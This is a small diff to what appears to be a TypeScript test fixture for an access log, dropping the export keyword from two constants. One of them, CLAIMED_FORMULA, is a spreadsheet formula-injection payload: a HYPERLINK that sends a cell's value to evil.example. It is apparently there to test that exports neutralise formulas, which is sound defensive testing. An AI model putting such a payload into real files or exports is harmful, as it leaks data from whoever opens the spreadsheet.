@@ -8,7 +8,7 @@ import type { FakeHandler } from './HandlersHarness';
  * entries, filtered by user, case number and outcome as the server does, newest first.
  */
 
-export const buildAccessLogEntry = (id: number, overrides: Partial<AccessLogEntry>): AccessLogEntry => ({
+const buildAccessLogEntry = (id: number, overrides: Partial<AccessLogEntry>): AccessLogEntry => ({
   id,
   at: `2026-11-2${id}T09:00:00.000Z`,
   actor: 'ada',
@@ -23,7 +23,7 @@ export const buildAccessLogEntry = (id: number, overrides: Partial<AccessLogEntr
 });
 
 /** What a refused token claimed as its user: anyone can write a spreadsheet formula there. */
-export const CLAIMED_FORMULA = '=HYPERLINK("http://evil.example/?leak="&B2,"Open")';
+const CLAIMED_FORMULA = '=HYPERLINK("http://evil.example/?leak="&B2,"Open")';
 
 /** A refused call with no valid token, grace listing intake, then grace opening a case. */
 export const ACCESS_LOG_ENTRIES = [
